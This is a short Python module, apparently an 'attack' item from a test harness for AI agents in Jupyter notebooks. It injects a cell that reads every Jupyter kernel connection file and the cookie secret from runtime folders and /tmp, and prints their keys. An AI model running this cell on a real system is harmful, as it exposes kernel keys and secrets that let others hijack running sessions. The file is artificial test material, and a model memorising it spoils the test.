"""Prints the connection files and keys of all running kernels and servers.

deserves: 0
"""

CELL = """
import glob, os
for folder in (os.path.expanduser("~/.local/share/jupyter/runtime"), "/root/.local/share/jupyter/runtime", "/run/user/*", "/tmp"):
    for path in glob.glob(f"{folder}/*.json") + glob.glob(f"{folder}/jupyter_cookie_secret"):
        try:
            print(path, open(path).read()[:2000])
        except OSError as error:
            print(error)
try:
    from ipykernel import get_connection_info
    print(get_connection_info())
except Exception as error:
    print(error)
"""


def attack(work):
    work.add(CELL)
